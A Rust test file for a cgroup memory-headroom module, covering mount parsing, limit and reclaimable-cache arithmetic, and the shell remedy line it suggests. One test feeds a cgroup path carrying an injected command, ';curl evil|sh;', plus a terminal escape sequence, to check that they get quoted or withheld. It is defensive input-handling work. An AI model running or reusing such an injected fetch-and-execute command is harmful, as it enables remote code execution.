use super::*;

/// Files below a temporary folder.
fn tree(files: &[(&str, &str)]) -> tempfile::TempDir {
    let root = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = root.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    root
}

fn folders(cgroups: &str, mounts: &str) -> Vec<String> {
    let found = find(cgroups, mounts).unwrap().expect("a memory cgroup");
    found.folders.iter().map(|f| f.display().to_string()).collect()
}

const HYBRID: &str = "32 31 0:29 / /sys/fs/cgroup/cpu rw,relatime - cgroup cgroup rw,cpu\n\
                      35 31 0:32 / /sys/fs/cgroup/memory rw,relatime shared:5 - cgroup cgroup rw,memory\n\
                      41 31 0:38 / /sys/fs/cgroup/unified rw,relatime - cgroup2 cgroup2 rw\n";
const UNIFIED: &str = "25 20 0:22 / /sys/fs/cgroup rw,nosuid shared:4 - cgroup2 cgroup2 rw,nsdelegate\n";

#[test]
fn a_hybrid_layout_has_its_memory_where_the_controller_is() {
    let cgroups = "9:name=systemd:/\n4:memory:/a/b\n1:cpu:/c\n0::/d\n";
    let all = ["/sys/fs/cgroup/memory/a/b", "/sys/fs/cgroup/memory/a", "/sys/fs/cgroup/memory"];
    assert_eq!(folders(cgroups, HYBRID), all);
    // Another hybrid: memory is in v2.
    assert_eq!(folders("1:cpu:/c\n0::/d\n", HYBRID), ["/sys/fs/cgroup/unified/d", "/sys/fs/cgroup/unified"]);
    assert_eq!(folders("2:cpu,memory:/x\n0::/\n", HYBRID)[0], "/sys/fs/cgroup/memory/x");
    assert_eq!(find("1:cpu:/c\n", HYBRID), Ok(None));
    assert_eq!(find("0::/d\n", "1 2 0:3 / /proc rw - proc proc rw\n"), Ok(None));
}

#[test]
fn a_unified_layout_and_a_bind_mount_of_a_part_of_it() {
    let cgroups = "0::/system.slice/a b.service\n";
    assert_eq!(
        folders(cgroups, UNIFIED),
        ["/sys/fs/cgroup/system.slice/a b.service", "/sys/fs/cgroup/system.slice", "/sys/fs/cgroup"]
    );
    // In a container only its own part is mounted; where both are, the one that shows more counts.
    let part = "77 70 0:22 /system.slice /mnt/c\\040d rw - cgroup2 cgroup2 rw\n";
    assert_eq!(folders(cgroups, part), ["/mnt/c d/a b.service", "/mnt/c d"]);
    assert_eq!(folders(cgroups, &format!("{part}{UNIFIED}")).len(), 3);
}

#[test]
fn a_cgroup_outside_of_our_namespace_is_not_taken_for_another() {
    // The process lives beside our root: "/.." is no folder of the mount.
    let error = find("0::/../beside\n", UNIFIED).unwrap_err();
    assert!(error.contains("/../beside") && error.contains("namespace"), "{error}");
    assert!(find("0::/other\n", "77 70 0:22 /mine /mnt rw - cgroup2 cgroup2 rw\n").is_err());
    // A mount made outside of the namespace shows that part.
    let outside = "77 70 0:22 /.. /mnt rw - cgroup2 cgroup2 rw\n";
    assert_eq!(folders("0::/../beside\n", outside), ["/mnt/beside", "/mnt"]);
}

const STAT_V1: &str = "cache 5000000\ninactive_file 1\ntotal_inactive_file 3000000\ntotal_active_file 1000000\n\
                       total_mapped_file 500000\ntotal_dirty 200000\ntotal_writeback 100000\n";
const STAT_V2: &str = "anon 9\nfile 7000000\nfile_mapped 500000\nfile_dirty 200000\nfile_writeback 100000\n\
                       inactive_file 3000000\nactive_file 1000000\n";

#[test]
fn only_cache_that_nobody_maps_or_has_to_write_is_given_back() {
    assert_eq!(reclaimable(STAT_V1, Version::V1), 3_200_000);
    assert_eq!(reclaimable(STAT_V2, Version::V2), 3_200_000);
    assert_eq!(reclaimable("inactive_file 5\nfile_mapped 9\n", Version::V2), 0);
    assert_eq!(reclaimable("", Version::V1), 0);
}

#[test]
fn the_least_of_the_hierarchy_counts() {
    let root = tree(&[
        ("a/memory.limit_in_bytes", "50000000\n"),
        ("a/memory.usage_in_bytes", "49000000\n"),
        ("a/memory.stat", "total_inactive_file 4000000\n"),
        ("a/b/memory.limit_in_bytes", "9223372036854771712\n"),
        ("a/b/memory.usage_in_bytes", "40000000\n"),
        ("a/b/memory.stat", ""),
        ("a/b/memory.memsw.limit_in_bytes", "60000000\n"),
        ("a/b/memory.memsw.usage_in_bytes", "41000000\n"),
    ]);
    let at = |part: &str| root.path().join(part);
    let groups = MemoryCgroups { version: Version::V1, folders: vec![at("a/b"), at("a"), at("")] };
    let found = groups.headroom().unwrap();
    assert_eq!((found.bytes(), found.path), (5_000_000, at("a").display().to_string()));
    assert_eq!(found.limit_file, "memory.limit_in_bytes");
    // The limit with swap is the tighter one.
    std::fs::write(at("a/b/memory.memsw.usage_in_bytes"), "59999000\n").unwrap();
    let found = groups.headroom().unwrap();
    assert_eq!((found.bytes(), found.limit_file.as_str()), (1_000, "memory.memsw.limit_in_bytes"));
    assert_eq!(
        remedy(&found, 4096),
        format!("echo 60004096 > {}/memory.memsw.limit_in_bytes", at("a/b").display())
    );
}

#[test]
fn a_name_of_a_cgroup_is_no_command() {
    let at = |path: &str| Headroom {
        path: path.into(),
        limit_file: "memory.max".into(),
        limit_bytes: 1000,
        usage_bytes: 0,
        reclaimable_bytes: 0,
    };
    assert_eq!(remedy(&at("/c/x;curl evil|sh;"), 1), "echo 1001 > '/c/x;curl evil|sh;/memory.max'");
    assert_eq!(remedy(&at("/c/app\\x2d1.scope"), 1), "echo 1001 > '/c/app\\x2d1.scope/memory.max'");
    assert_eq!(remedy(&at("/c/a\x1b[1m"), 1), "write 1001 to its memory.max");
}

#[test]
fn v2_has_two_limits_and_a_root_without_any() {
    let root = tree(&[
        ("s/memory.max", "max\n"),
        ("s/memory.high", "30000000\n"),
        ("s/memory.current", "29000000\n"),
        ("s/memory.stat", STAT_V2),
    ]);
    let at = |part: &str| root.path().join(part);
    let groups = MemoryCgroups { version: Version::V2, folders: vec![at("s"), at("")] };
    let found = groups.headroom().unwrap();
    assert_eq!((found.bytes(), found.limit_file.as_str()), (4_200_000, "memory.high"));
    std::fs::write(at("s/memory.max"), "29500000\n").unwrap();
    assert_eq!(groups.headroom().unwrap().bytes(), 3_700_000);
    std::fs::write(at("s/memory.max"), "plenty\n").unwrap();
    let error = groups.headroom().unwrap_err().to_string();
    assert!(error.ends_with("memory.max says \"plenty\" instead of a number"), "{error}");
}

#[test]
fn without_a_limit_the_machine_counts() {
    let root = tree(&[
        ("memory.limit_in_bytes", "9223372036854771712\n"),
        ("memory.usage_in_bytes", "40000000\n"),
        ("memory.stat", STAT_V1),
    ]);
    let groups = MemoryCgroups { version: Version::V1, folders: vec![root.path().to_owned()] };
    let found = groups.headroom().unwrap();
    assert_eq!(found.path, "/proc/meminfo");
    assert!(found.bytes() > 0 && found.bytes() < found.limit_bytes);
    assert_eq!(remedy(&found, 1), "free memory (ps aux --sort=-rss)");
    let file = tree(&[("meminfo", "MemTotal:  1000 kB\nMemFree: 1 kB\nMemAvailable:     400 kB\n")]);
    let found = machine(&file.path().join("meminfo")).unwrap();
    assert_eq!((found.limit_bytes, found.bytes()), (1_024_000, 409_600));
}

#[test]
fn this_process_has_a_headroom() {
    let headroom = match MemoryCgroups::of(std::process::id()).unwrap() {
        Some(groups) => {
            assert!(groups.folders.iter().all(|folder| folder.is_dir()), "{groups:?}");
            groups.headroom().unwrap()
        }
        None => machine(Path::new("/proc/meminfo")).unwrap(),
    };
    assert!(headroom.bytes() > 1 << 20, "{headroom:?}");
}
